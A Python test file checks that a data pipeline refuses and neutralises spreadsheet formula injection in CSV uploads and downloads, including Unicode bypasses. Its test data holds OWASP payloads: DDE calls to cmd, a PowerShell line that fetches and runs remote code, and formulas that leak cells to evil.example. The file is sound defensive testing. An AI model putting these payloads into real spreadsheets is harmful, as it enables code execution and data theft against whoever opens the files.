"""Formula-like cells (CSV injection): refused by the contracts and neutralised in every download.

The payloads are OWASP's CSV injection examples plus the bypasses issue 16 found in the
earlier rule (a minus and a digit, a leading space, non-breaking space or newline, ``-.5``)
and those issue 33 found in its list of invisible characters. Every code point of the invisible
and format categories is tried in front of ``=``, by Python and by DuckDB.
"""

from __future__ import annotations

import csv
import sys
import unicodedata
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from assets.bidi_controls import without_bidi_controls
from assets.ingest.intake import judge
from assets.ingest.landing import landed_file
from assets.model.contracts import load_contracts
from assets.model.reference import councils
from assets.publication.downloads import write_downloads
from assets.spreadsheet_formulas import formula_like, formula_like_sql, neutralise, neutralise_frame
from tests.support.paths import CONTRACTS, SHARED
from tests.support.samples import COLUMNS, DATASET, EpisodesFile

OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click for details")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+2\";=1+2",
    "\t=1+2",
    "\r=1+2",
]
BYPASSES = [
    "-1+1",
    "-.5+cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",  # a non-breaking space
    "\n=1+1",
    "\u200b=1+1",  # a zero-width space
    "\ufeff@SUM(A1:A9)",  # a byte order mark
    "\uff1dHYPERLINK(\"http://evil.example\")",  # a full-width equals sign
    "\u2212" + "1+1",  # a minus sign
    "cmd|' /C calc'!A0",  # a DDE call without a leading sign
    # issue 33: an Arabic letter mark, a combining grapheme joiner, Hangul fillers, a Braille blank, a tag space
    "\u061c=1+1", "\u034f=1+1", "\u115f=1+1", "\u3164=1+1", "\u2800=1+1", "\U000e0020=1+1",
]
PLAIN = [
    "Being listened to", "-5", "-0.5", "-.5", " -12 ", "5", "2020-21", "well-being", "e-mail me", "It's great!", "yes | no", "Ages 0-17", "'=1+1",
    "Zoë", "Siobhán", "Zoe\u0308", "Nguyễn", "Øystein", "\u2800-5", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scotland", "",
]
# What shows as nothing at the start of a cell: every code point of these categories, the Hangul
# fillers, the Braille blank, the null notehead and the reserved default-ignorables (the tag block among them).
INVISIBLE_CATEGORIES = {"Cf", "Zs", "Mn", "Cc", "Zl", "Zp", "Me"}
DRAWN_BLANK = {0x115F, 0x1160, 0x3164, 0xFFA0, 0x2800, 0x1D159, 0x2065, *range(0xFFF0, 0xFFF9), *range(0xE0000, 0xE1000)}
SIGNS = "=+@-\uff1d\ufe66\uff0b\ufe62\uff20\ufe6b\u2212\uff0d\ufe63"  # = + @ - , their full-width and small forms, the minus sign
INVISIBLE = sorted({c for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) in INVISIBLE_CATEGORIES} | DRAWN_BLANK)


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + BYPASSES)
def test_every_payload_is_formula_like_and_neutralised(payload: str):
    assert formula_like(payload)
    assert neutralise(payload) == "'" + without_bidi_controls(payload)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_plain_numbers_are_left_alone(text: str):
    assert not formula_like(text) and neutralise(text) == text


def test_a_frame_is_neutralised_cell_for_cell_and_its_numbers_kept():
    values = (OWASP_PAYLOADS + BYPASSES + PLAIN) * 3 + [None]  # repeated, as a table repeats its categories
    frame = pd.DataFrame({"text": values, "count": range(len(values)), "mixed": [*values[:-1], 7]})
    neutralised = neutralise_frame(frame)
    assert neutralised["text"].tolist() == [None if v is None else neutralise(v) for v in values]
    assert neutralised["mixed"].tolist() == [*map(neutralise, values[:-1]), 7]
    assert neutralised["count"].tolist() == list(range(len(values))) and frame["text"].tolist() == values  # the input is untouched


def test_the_duckdb_rule_and_the_python_test_agree():
    values = OWASP_PAYLOADS + BYPASSES + PLAIN
    with duckdb.connect() as con:
        flagged = con.execute(f"SELECT coalesce({formula_like_sql('v')}, false) FROM unnest(?) AS t(v)", [values]).fetchall()
    assert [f for (f,) in flagged] == [formula_like(v) for v in values]


@pytest.fixture(scope="module")
def flagged_by_python() -> set[int]:
    """Every code point (but surrogates) that Python flags in front of ``=1+1``."""
    return {c for c in range(sys.maxunicode + 1) if not 0xD800 <= c <= 0xDFFF and formula_like(chr(c) + "=1+1")}


def test_every_invisible_or_format_character_before_a_sign_is_formula_like(flagged_by_python: set[int]):
    missed = [f"U+{c:04X}" for c in INVISIBLE if c not in flagged_by_python]
    assert not missed, f"{len(missed)} of {len(INVISIBLE)} invisible characters let '=' through: {missed[:20]}"


def test_a_visible_character_before_a_sign_is_not_skipped(flagged_by_python: set[int]):
    """Letters, digits, punctuation, symbols and code points this Unicode does not know yet show, so the cell does not start with the sign."""
    skipped = [f"U+{c:04X}" for c in sorted(flagged_by_python - set(INVISIBLE) - set(map(ord, SIGNS)))]
    assert not skipped, f"{len(skipped)} visible characters are skipped as if invisible: {skipped[:20]}"


def test_duckdb_flags_every_code_point_python_flags_and_no_other(flagged_by_python: set[int]):
    """The contracts' SQL, on every code point in front of ``=1+1`` in one query: the invisible ones all refused, exactly as in Python."""
    with duckdb.connect() as con:
        [codes] = con.execute(
            f"SELECT list(i) FROM (SELECT i, chr(i::INTEGER) || '=1+1' AS v FROM range({sys.maxunicode + 1}) AS t(i) WHERE i NOT BETWEEN 55296 AND 57343)"
            f" WHERE {formula_like_sql('v')}",
        ).fetchone()
    flagged = set(codes)
    missed = [f"U+{c:04X}" for c in INVISIBLE if c not in flagged]
    assert not missed, f"{len(missed)} of {len(INVISIBLE)} invisible characters let '=' through in DuckDB: {missed[:20]}"
    assert flagged == flagged_by_python


def test_the_contract_refuses_exactly_the_rows_holding_a_payload(tmp_path: Path):
    payloads = OWASP_PAYLOADS + BYPASSES
    sample = EpisodesFile.valid("S12000049", "2021")
    template = sample.rows[2]
    sample.rows = [{**template, "child_ref": f"C{n:04d}", "sibling_group_ref": text} for n, text in enumerate(payloads + PLAIN)]
    path = tmp_path / "landing" / "S12000049" / DATASET / sample.file_name
    path.parent.mkdir(parents=True)
    with path.open("w", newline="", encoding="utf-8") as handle:  # every value quoted, so a carriage return stays inside its cell
        writer = csv.DictWriter(handle, fieldnames=COLUMNS, quoting=csv.QUOTE_ALL, lineterminator="\n")
        writer.writeheader()
        writer.writerows(sample.rows)
    [verdict] = judge([landed_file(path)], load_contracts(CONTRACTS)[DATASET], councils(SHARED / "reference"), SHARED / "reference", tmp_path / "staging.duckdb")
    [formula] = [p for p in verdict.problems if p.check == "formula"]
    assert formula.columns == ("sibling_group_ref",) and formula.rows_affected == len(payloads)
    assert formula.rows == tuple(range(1, 21))  # the first 20 listed, all of them payload rows
    assert not verdict.accepted


def test_downloads_neutralise_formula_cells_and_keep_numbers(tmp_path: Path):
    with duckdb.connect() as con:
        con.execute("CREATE SCHEMA mart")
        con.execute("CREATE TABLE mart.published_quotes (theme VARCHAR, quote VARCHAR, change INTEGER)")
        con.executemany("INSERT INTO mart.published_quotes VALUES ('Voice', ?, -3)", [[t] for t in OWASP_PAYLOADS + BYPASSES + PLAIN])
        [path] = write_downloads(con, tmp_path, edition="e1", titles={}, geography_names={})
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["quote"] for r in rows] == ["'" + without_bidi_controls(t) for t in OWASP_PAYLOADS + BYPASSES] + PLAIN[:-1] + [""]
    assert {r["change"] for r in rows} == {"-3"} and {r["theme"] for r in rows} == {"Voice"}
